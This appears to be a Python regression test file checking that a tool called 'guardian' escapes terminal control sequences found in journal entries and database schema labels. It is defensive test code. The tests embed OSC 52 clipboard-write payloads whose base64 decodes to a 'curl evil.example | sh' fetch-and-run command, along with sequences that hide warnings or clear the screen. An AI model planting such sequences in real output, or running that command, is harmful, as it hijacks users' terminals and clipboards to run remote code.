"""What a checkout holds never drives the terminal of whoever looks at it: a journal entry's text, a
schema's labels and type names reach the screen with their escape sequences shown, not obeyed
(OSC 52 writes the clipboard, SGR 8 hides what follows). Each test is the attack, from the
December 2026 review; it fails on the code before its fix.
"""

from __future__ import annotations

import os
from pathlib import Path

from attack_helpers import git, run, with_schema


def test_an_untrusted_entry_cannot_drive_the_terminal_of_whoever_inspects_it(checkout: Path) -> None:
    """A shipped journal entry is shown, never acted on; but its description and error went to the
    terminal as they were: an escape sequence can write the clipboard (OSC 52), or conceal the
    UNTRUSTED warning printed after it (SGR 8) so that `--trust` looks safe."""
    import json

    from rollback import Journal, Write

    Journal(checkout).apply("shipped", [Write("src/pkg/c.py", b"")])
    manifest = next((checkout / ".guardian/journal").glob("*/manifest.json"))
    text = manifest.read_text()
    data = json.loads(text[: text.rindex("}") + 1])
    data["description"] = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[8m"
    data["error"] = "\x1b[2J\x1b[Hall entries trusted"
    manifest.write_text(json.dumps(data))
    for command in (["journal"], ["journal", "shipped"]):
        code, out, err = run(checkout, *command)
        assert code == 0, err
        assert "UNTRUSTED" in out and "\x1b" not in out + err, command


def test_schema_labels_cannot_drive_the_terminal_enums_sql_prints_on(checkout: Path) -> None:
    """`guardian enums sql` prints the migration on the terminal: the labels of the checkout's schema
    went there verbatim, escape sequences included (OSC 52 writes the user's clipboard). Redirected
    to a file, the SQL keeps the label's exact bytes."""
    import pty
    import select
    import subprocess
    import sys

    osc = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    with_schema(checkout)
    (checkout / "db/schema.sql").write_text(
        f"CREATE TYPE mood AS ENUM ('ok', 'x{osc}');\nCREATE TYPE mood2 AS ENUM ('ok', 'x{osc}');\n"
        "CREATE TABLE t (m mood, n mood2);\n"
    )
    argv = [sys.executable, "-m", "guardian", "--repo", str(checkout), "--no-exec", "enums", "sql"]
    master, slave = pty.openpty()
    child = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=subprocess.DEVNULL)
    os.close(slave)
    shown = b""
    while True:
        ready, _, _ = select.select([master], [], [], 120)
        try:
            chunk = os.read(master, 65536) if ready else b""
        except OSError:  # the child closed the terminal
            chunk = b""
        if not chunk:
            break
        shown += chunk
    assert child.wait(timeout=60) == 0
    os.close(master)
    assert b"CREATE TYPE" in shown and b"\x1b]52" not in shown and b"\\x1b]52" in shown
    piped = subprocess.run(argv, capture_output=True, text=True, timeout=120, check=True)
    assert osc in piped.stdout


def test_schema_identifiers_cannot_drive_the_terminal_of_assess_plan_status(checkout: Path) -> None:
    """A type name of the checkout's schema (`CREATE TYPE "e<ESC>]52;c;...<BEL>x"`) went to the
    terminal verbatim in assess's, plan's and status's ENUM lines."""
    osc = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    with_schema(checkout)
    (checkout / "db/schema.sql").write_text(
        f"CREATE TYPE \"e{osc}x\" AS ENUM ('ok', 'no');\nCREATE TYPE mood2 AS ENUM ('ok', 'no');\n"
        f'CREATE TABLE t (m "e{osc}x", n mood2);\n'
    )
    git(checkout, "add", "-A")
    git(checkout, "commit", "-qm", "schema")
    for command in (["assess"], ["plan"], ["status"]):
        code, out, err = run(checkout, "--no-exec", *command)
        assert code in (0, 3), (command, err)
        assert "\\x1b]52" in out + err and "\x1b" not in out + err, command
